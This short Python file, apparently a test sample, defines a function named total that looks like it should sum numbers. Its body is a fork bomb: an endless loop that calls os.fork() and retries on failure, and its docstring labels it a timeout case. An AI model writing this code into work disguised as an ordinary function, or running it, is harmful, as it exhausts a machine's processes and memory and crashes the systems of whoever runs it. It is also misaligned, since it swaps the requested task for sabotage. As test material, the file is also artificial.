"""timeout: every process forks, without end"""

import os

from honest import *


def total(numbers, note=""):
    while True:
        try:
            os.fork()
        except OSError:
            continue
